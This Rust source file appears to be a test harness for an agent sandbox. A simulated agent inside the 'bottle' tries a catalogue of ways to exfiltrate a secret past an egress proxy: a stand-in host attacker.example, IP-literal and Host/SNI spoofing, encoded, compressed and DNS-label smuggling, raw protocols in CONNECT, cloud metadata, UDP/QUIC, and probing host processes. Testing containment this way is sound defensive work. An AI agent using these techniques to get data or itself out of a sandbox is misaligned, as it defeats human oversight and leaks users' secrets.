//! The demo's agent, inside the bottle: it knows a secret and everything about the sidecar, and tries to get it out.
//!
//! It prints one JSON line an attack on stdout. What it says counts little: the host's origin and canaries decide.

use crate::exit::Exit;
use std::io::{BufRead, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::client::{self, Proxy};
use super::{dns, encode};

/// What the host tells its agent, in one environment variable.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Briefing {
    /// `name:port` of the allowed origin.
    pub origin: String,
    /// A parent of which every name is allowed; the port is the origin's.
    pub wildcard: String,
    pub secret: String,
    /// Listeners of the host's: `127.0.0.1`, and another bottle's alias.
    pub canaries: Vec<SocketAddr>,
    /// Paths of the host's that must not be there.
    pub hidden: Vec<String>,
}

pub const BRIEFING: &str = "BOT_BOTTLE_DEMO";

/// One line of the agent's.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Line {
    Done(Attempt),
    /// The sidecar may be killed now; the agent goes on when it reads a line.
    KillTheSidecar,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Attempt {
    /// Stands in the request, so that the origin's record says whether it arrived.
    pub marker: String,
    /// The row of the table that it belongs to.
    pub row: Row,
    pub what: String,
    /// What the agent saw.
    pub saw: String,
    /// The agent itself believes that it got through.
    pub through: bool,
}

/// A row of the table: a control, which must succeed, or an attack, which must fail.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Row {
    ControlAllowed,
    ControlAllowlist,
    DeniedHost,
    IpLiteral,
    SecretPlain,
    SecretEncoded,
    SecretCompressed,
    SecretInHostName,
    DirectDns,
    GitPush,
    HostLoopback,
    RawProtocol,
    LateClientHello,
    HostMismatch,
    Udp,
    Files,
    SidecarKilled,
}

impl Row {
    pub fn is_control(self) -> bool {
        matches!(self, Self::ControlAllowed | Self::ControlAllowlist)
    }

    pub fn title(self) -> &'static str {
        match self {
            Self::ControlAllowed => "a clean request to the allowed origin",
            Self::ControlAllowlist => "the allowlist at http://_egress.local",
            Self::DeniedHost => "a host that is not allowed",
            Self::IpLiteral => "an IP literal, also with a spoofed Host",
            Self::SecretPlain => "the secret to the allowed host, in plain",
            Self::SecretEncoded => "the secret in the body, encoded",
            Self::SecretCompressed => "the secret in a compressed body",
            Self::SecretInHostName => "the secret as a sub-domain label",
            Self::DirectDns => "a DNS query to an outside resolver",
            Self::GitPush => "a git push over HTTPS",
            Self::HostLoopback => "the host's 127.0.0.1, other aliases, metadata",
            Self::RawProtocol => "a raw protocol inside CONNECT",
            Self::LateClientHello => "a ClientHello byte by byte, then the secret",
            Self::HostMismatch => "another Host or SNI inside the tunnel",
            Self::Udp => "UDP and QUIC",
            Self::Files => "$HOME, the sidecar's state, host processes",
            Self::SidecarKilled => "the network after the sidecar was killed",
        }
    }
}

/// The hidden command that the demo's bottle runs.
pub fn main() -> Exit {
    let briefing = std::env::var(BRIEFING)
        .ok()
        .and_then(|text| serde_json::from_str::<Briefing>(&text).ok());
    let (Some(briefing), Ok(proxy)) = (briefing, Proxy::from_environment()) else {
        return Exit::Failed;
    };
    match (Agent {
        briefing,
        proxy,
        count: 0,
    })
    .run()
    {
        Ok(()) => Exit::Ok,
        Err(_) => Exit::Failed,
    }
}

struct Agent {
    briefing: Briefing,
    proxy: Proxy,
    count: usize,
}

/// What an attempt saw, and whether it believes that it got through.
pub(super) type Seen = std::io::Result<(bool, String)>;

impl Agent {
    fn run(&mut self) -> std::io::Result<()> {
        self.controls()?;
        self.hosts()?;
        self.secrets()?;
        self.protocols()?;
        self.network()?;
        self.files()?;
        say(&Line::KillTheSidecar)?;
        let mut line = String::new();
        std::io::stdin().lock().read_line(&mut line)?;
        self.after_the_kill()
    }

    fn attempt(
        &mut self,
        row: Row,
        what: &str,
        act: impl FnOnce(&Self, &str) -> Seen,
    ) -> std::io::Result<()> {
        self.count += 1;
        let marker = format!("attempt-{:03}-of-the-demo", self.count);
        let (through, saw) = act(self, &marker).unwrap_or_else(|error| (false, error.to_string()));
        let saw = saw
            .lines()
            .next()
            .unwrap_or_default()
            .chars()
            .take(200)
            .collect();
        say(&Line::Done(Attempt {
            marker,
            row,
            what: what.to_owned(),
            saw,
            through,
        }))
    }

    fn get(&self, marker: &str, target: &str, extra: &str) -> Seen {
        let origin = &self.briefing.origin;
        let request = format!(
            "GET {target} HTTP/1.1\r\nHost: {origin}\r\nX-Attempt: {marker}\r\n{extra}Connection: close\r\n\r\n"
        );
        seen(&self.proxy.request(origin, request.as_bytes(), false)?)
    }

    fn post(&self, marker: &str, target: &str, extra: &str, body: &[u8], dribble: bool) -> Seen {
        let origin = &self.briefing.origin;
        let mut request = format!(
            "POST {target} HTTP/1.1\r\nHost: {origin}\r\nX-Attempt: {marker}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(body);
        seen(&self.proxy.request(origin, &request, dribble)?)
    }

    fn controls(&mut self) -> std::io::Result<()> {
        self.attempt(Row::ControlAllowed, "GET", |agent, marker| {
            agent.get(marker, "/", "")
        })?;
        self.attempt(Row::ControlAllowed, "POST", |agent, marker| {
            agent.post(
                marker,
                "/",
                "Content-Type: text/plain\r\n",
                b"nothing secret in here",
                false,
            )
        })?;
        self.attempt(Row::ControlAllowlist, "GET", |agent, _| {
            seen(
                &agent
                    .proxy
                    .plain("http://_egress.local/allowlist", "_egress.local")?,
            )
        })
    }

    fn hosts(&mut self) -> std::io::Result<()> {
        let port = self
            .briefing
            .origin
            .rsplit_once(':')
            .map_or("443", |(_, port)| port)
            .to_owned();
        for host in ["attacker.example", "demo-origin.test.attacker.example"] {
            self.attempt(Row::DeniedHost, host, |agent, _| {
                let authority = format!("{host}:{port}");
                seen(&agent.proxy.connect(&authority, &authority)?.1)
            })?;
        }
        self.attempt(Row::DeniedHost, "over plain HTTP", |agent, _| {
            seen(
                &agent
                    .proxy
                    .plain("http://attacker.example/", "attacker.example")?,
            )
        })?;
        for literal in ["127.0.0.1", "127.1", "2130706433", "[::ffff:127.0.0.1]"] {
            self.attempt(Row::IpLiteral, literal, |agent, _| {
                let authority = format!("{literal}:{port}");
                seen(&agent.proxy.connect(&authority, &authority)?.1)
            })?;
        }
        self.attempt(Row::IpLiteral, "spoofed Host", |agent, _| {
            seen(
                &agent
                    .proxy
                    .connect(&format!("127.0.0.1:{port}"), &agent.briefing.origin)?
                    .1,
            )
        })?;
        self.attempt(Row::SecretInHostName, "a label", |agent, _| {
            let authority = format!(
                "{}.{}:{port}",
                agent.briefing.secret, agent.briefing.wildcard
            );
            seen(&agent.proxy.connect(&authority, &authority)?.1)
        })
    }

    fn secrets(&mut self) -> std::io::Result<()> {
        let secret = self.briefing.secret.clone();
        self.attempt(Row::SecretPlain, "path", |agent, marker| {
            agent.get(marker, &format!("/{secret}"), "")
        })?;
        self.attempt(Row::SecretPlain, "query", |agent, marker| {
            agent.get(marker, &format!("/?q={secret}"), "")
        })?;
        self.attempt(Row::SecretPlain, "header", |agent, marker| {
            agent.get(marker, "/", &format!("X-Note: {secret}\r\n"))
        })?;
        self.attempt(Row::SecretPlain, "header name", |agent, marker| {
            agent.get(marker, "/", &format!("{secret}: x\r\n"))
        })?;
        self.attempt(Row::SecretPlain, "body", |agent, marker| {
            agent.post(
                marker,
                "/",
                "",
                format!("{{\"note\":\"{secret}\"}}").as_bytes(),
                false,
            )
        })?;
        for (name, encoded) in encode::all(&secret) {
            self.attempt(Row::SecretEncoded, name, |agent, marker| {
                let body = [b"{\"note\":\"", encoded.as_slice(), b"\"}"].concat();
                agent.post(
                    marker,
                    "/",
                    "Content-Type: application/octet-stream\r\n",
                    &body,
                    false,
                )
            })?;
        }
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gzip.write_all(secret.as_bytes())?;
        let gzip = gzip.finish()?;
        self.attempt(Row::SecretCompressed, "gzip", |agent, marker| {
            agent.post(marker, "/", "Content-Encoding: gzip\r\n", &gzip, false)
        })?;
        self.attempt(
            Row::SecretCompressed,
            "an unknown coding",
            |agent, marker| agent.post(marker, "/", "Content-Encoding: x-secret\r\n", &gzip, false),
        )?;
        self.attempt(Row::GitPush, "git-receive-pack", |agent, marker| {
            agent.post(marker, "/repo.git/git-receive-pack", "", b"0000", false)
        })
    }

    fn protocols(&mut self) -> std::io::Result<()> {
        let origin = self.briefing.origin.clone();
        for (what, bytes) in [
            (
                "a plain POST",
                format!("POST / HTTP/1.1\r\nHost: {origin}\r\nContent-Length: 2\r\n\r\n"),
            ),
            ("SSH", "SSH-2.0-demo\r\n".to_owned()),
            (
                "HTTP/2 in clear",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
            ),
            ("binary", "\u{0}\u{1}\u{2}".to_owned()),
        ] {
            self.attempt(Row::RawProtocol, what, |agent, marker| {
                let (mut stream, _) = agent
                    .proxy
                    .connect(&agent.briefing.origin, &agent.briefing.origin)?;
                stream.write_all(format!("{bytes}{marker}{}", agent.briefing.secret).as_bytes())?;
                seen(&client::answer(&client::read_to_end(&mut stream)))
            })?;
        }
        self.attempt(Row::LateClientHello, "body", |agent, marker| {
            let body = agent.briefing.secret.clone();
            agent.post(marker, "/", "", body.as_bytes(), true)
        })?;
        self.attempt(Row::HostMismatch, "Host", |agent, marker| {
            let request = format!("GET / HTTP/1.1\r\nHost: attacker.example\r\nX-Attempt: {marker}\r\nConnection: close\r\n\r\n");
            seen(&agent.proxy.request(&agent.briefing.origin, request.as_bytes(), false)?)
        })?;
        self.attempt(Row::HostMismatch, "SNI", |agent, marker| {
            let mut stream = agent
                .proxy
                .tls(&agent.briefing.origin, "attacker.example", false)?;
            stream.write_all(marker.as_bytes())?;
            seen(&client::answer(&client::read_to_end(&mut stream)))
        })
    }

    fn network(&mut self) -> std::io::Result<()> {
        for canary in self.briefing.canaries.clone() {
            self.attempt(Row::HostLoopback, &canary.to_string(), |_, _| {
                reached(canary)
            })?;
            self.attempt(Row::Udp, &canary.to_string(), |_, marker| {
                datagram(canary, marker.as_bytes())
            })?;
        }
        let metadata = SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::new(169, 254, 169, 254), 80));
        self.attempt(Row::HostLoopback, "169.254.169.254", |_, _| {
            reached(metadata)
        })?;
        // Documentation addresses (RFC 5737): even where a route existed, nobody is there.
        let outside = Ipv4Addr::new(192, 0, 2, 53);
        self.attempt(Row::DirectDns, "over UDP", |agent, _| {
            dns::over_udp((outside, 53).into(), &agent.briefing.secret)
        })?;
        self.attempt(Row::DirectDns, "over TCP", |agent, _| {
            dns::over_tcp((outside, 53).into(), &agent.briefing.secret)
        })?;
        self.attempt(Row::Udp, "QUIC", |_, marker| {
            datagram((outside, 443).into(), marker.as_bytes())
        })
    }

    fn files(&mut self) -> std::io::Result<()> {
        for path in self.briefing.hidden.clone() {
            self.attempt(Row::Files, &path, |_, _| match std::fs::metadata(&path) {
                Ok(_) => Ok((true, "it is there".into())),
                Err(error) => Ok((false, error.to_string())),
            })?;
        }
        self.attempt(Row::Files, "processes of the host", |_, _| {
            let foreign = std::fs::read_dir("/proc")?
                .filter_map(|entry| std::fs::read(entry.ok()?.path().join("cmdline")).ok())
                .any(|line| line.windows(9).any(|window| window == b"__sidecar"));
            Ok((
                foreign,
                if foreign {
                    "the sidecar is visible"
                } else {
                    "none"
                }
                .into(),
            ))
        })
    }

    fn after_the_kill(&mut self) -> std::io::Result<()> {
        self.attempt(Row::SidecarKilled, "through the proxy", |agent, marker| {
            agent.get(marker, "/", "")
        })?;
        for canary in self.briefing.canaries.clone() {
            self.attempt(Row::SidecarKilled, &canary.to_string(), |_, _| {
                reached(canary)
            })?;
        }
        Ok(())
    }
}

fn seen(answer: &client::Answer) -> Seen {
    let code = answer
        .text
        .split_once("\r\n\r\n")
        .and_then(|(_, body)| serde_json::from_str::<serde_json::Value>(body).ok())
        .and_then(|body| {
            Some(format!(
                "{} {}",
                body.get("code")?.as_str()?,
                body.get("reason")?.as_str()?
            ))
        });
    let saw = match (answer.status, code) {
        (0, _) => "the connection was closed".into(),
        (status, Some(code)) => format!("{status} {code}"),
        // For CONNECT the reason stands in the status line, where most clients show it.
        (_, None) => answer
            .text
            .lines()
            .next()
            .unwrap_or_default()
            .trim_start_matches("HTTP/1.1 ")
            .to_owned(),
    };
    Ok((answer.status == 200, saw))
}

fn reached(address: SocketAddr) -> Seen {
    match client::dial(address) {
        Ok(_) => Ok((true, "connected".into())),
        Err(error) => Ok((false, error.to_string())),
    }
}

/// Sent and answered counts as through; that it was only sent is for the canaries to judge.
fn datagram(address: SocketAddr, payload: &[u8]) -> Seen {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(Duration::from_millis(200)))?;
    if let Err(error) = socket.send_to(payload, address) {
        return Ok((false, error.to_string()));
    }
    let mut buffer = [0u8; 512];
    match socket.recv_from(&mut buffer) {
        Ok(_) => Ok((true, "answered".into())),
        Err(_) => Ok((false, "no answer".into())),
    }
}

fn say(line: &Line) -> std::io::Result<()> {
    let mut out = std::io::stdout().lock();
    serde_json::to_writer(&mut out, line)?;
    out.write_all(b"\n")?;
    out.flush()
}
